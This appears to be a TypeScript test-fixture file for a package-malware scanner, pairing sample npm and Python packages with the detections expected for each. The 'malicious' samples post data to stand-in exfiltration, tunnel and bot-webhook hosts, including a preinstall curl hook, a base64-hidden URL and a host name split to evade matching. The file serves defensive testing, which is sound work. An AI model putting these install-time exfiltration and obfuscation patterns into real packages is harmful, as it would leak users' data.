import type { Samples } from '../contract.ts';
import { hide, imported, installed, manifest, quiet, wheel } from '../samples-kit.ts';

function at(rule: string, severity: 'high' | 'medium', line: number, file = 'setup.js') {
  return { rule, file, line, severity };
}

const MAILBOX = `https://messenger.weir.test/bot1234567890:${'A'.repeat(35)}/sendMessage`;

export const samples: Samples = {
  malicious: [
    {
      name: 'Python: a mailbox that one module keeps for another',
      files: {
        ...wheel(
          'import requests\nfrom .places import BOX\ndef tell(text):\n    requests.post(BOX, json=text)\n',
        ),
        'own/places.py': `BOX = 'https://messenger.weir.test/bot1234567890:${hide('a name of its own').slice(0, 20)}Bb3xY9zQ7wE5rT1u/sendMessage'\n`,
      },
      expected: [at('mailbox', 'high', 4, 'own/__init__.py'), at('mailbox', 'high', 1, 'own/places.py')],
    },
    {
      name: 'Python: a tunnel in a setup script',
      files: {
        'PKG-INFO': 'Metadata-Version: 2.1\nName: own\nVersion: 1.0\n',
        'setup.py':
          'import urllib.request\nfrom setuptools import setup\nURL = "https://a1.tunnel.weir.test"\ndef ask():\n    return urllib.request.Request(URL)\nsetup(name="own")\n',
      },
      expected: [at('tunnel', 'high', 3, 'setup.py')],
    },
    {
      name: 'Python: a request catcher in a module',
      files: wheel(
        'import requests\ndef tell(text):\n    requests.post("https://a.exfil.weir.test/x", data=text)\n',
      ),
      expected: [at('request-catcher', 'high', 3, 'own/__init__.py')],
    },
    {
      name: 'Python: the key of a bot in code that talks through a library',
      files: wheel(
        'import telebot\nbot = telebot.TeleBot("1234567890:AbCdEfGhIjKlMnOpQrStUvWxYz012345678")\nbot.send_message(1, "hi")\n',
      ),
      expected: [{ rule: 'mailbox', file: 'own/__init__.py', line: 3, severity: 'high' }],
    },
    {
      name: 'Python: an interaction server when the module is loaded',
      files: wheel('import requests\nrequests.get("http://a.interaction.weir.test/")\n'),
      expected: [{ rule: 'interaction', file: 'own/__init__.py', line: 2, severity: 'high' }],
    },
    {
      name: 'a request catcher in a hook script',
      files: installed(`fetch('https://exfil.weir.test/abc');\n`),
      expected: [at('request-catcher', 'high', 1)],
    },
    {
      name: 'a request catcher in the hook itself',
      files: { 'package.json': manifest({ scripts: { preinstall: 'curl https://exfil.weir.test/abc' } }) },
      expected: [at('request-catcher', 'high', 5, 'package.json')],
    },
    {
      name: 'an interaction server in pieces',
      files: installed(
        `const host = ['x1', 'interaction', 'weir', 'test'].join('.');\nrequire('dns').lookup(host, () => {});\n`,
      ),
      expected: [at('interaction', 'high', 1)],
    },
    {
      name: 'an address under base64',
      files: imported(`const u = atob('${hide('https://tunnel.weir.test/c2/path')}');\nfetch(u);\n`),
      expected: [at('tunnel', 'high', 1, 'index.js')],
    },
    {
      name: "somebody's mailbox",
      files: imported(
        `const hook = '${MAILBOX}';\nexports.send = (t) => fetch(hook, { method: 'POST', body: t });\n`,
      ),
      expected: [at('mailbox', 'medium', 1, 'index.js')],
    },
    {
      name: 'a mailbox at install',
      files: installed(`require('https').get('${MAILBOX}');\n`),
      expected: [at('mailbox', 'high', 1)],
    },
  ],
  benign: [
    quiet(
      'Python: a service that tells an address',
      wheel('import requests\ndef own():\n    return requests.get("https://address.weir.test").text\n'),
    ),
    quiet(
      'Python: a bot of the user',
      wheel('import telebot\ndef start(token):\n    return telebot.TeleBot(token)\n'),
    ),
    quiet(
      "a messenger's SDK",
      imported(
        `const BASE = 'https://messenger.weir.test';\nmodule.exports = (token, method) => fetch(BASE + '/bot' + token + '/' + method);\n`,
      ),
    ),
    quiet(
      'a list of hosts',
      imported(
        `module.exports = ['exfil.weir.test', 'a.exfil.weir.test', 'b.exfil.weir.test', 'c.exfil.weir.test', 'paste.weir.test', 'tunnel.weir.test', 'interaction.weir.test', 'd.interaction.weir.test', 'address.weir.test'];\nexports.check = (u) => fetch(u);\n`,
      ),
    ),
    quiet(
      'a host in a comment',
      imported(
        `// tested with https://exfil.weir.test/abc\nmodule.exports = () => fetch('https://api.weir.test');\n`,
      ),
    ),
    quiet('a host in a file that nothing loads', {
      ...imported('module.exports = 1;\n'),
      'examples/demo.js': `fetch('https://exfil.weir.test/abc');\n`,
    }),
    quiet(
      'a host without a way to reach it',
      imported(`module.exports = { docs: 'https://exfil.weir.test/abc' };\n`),
    ),
    quiet(
      'the public address',
      imported(`module.exports = () => fetch('https://address.weir.test/?format=json');\n`),
    ),
  ],
};
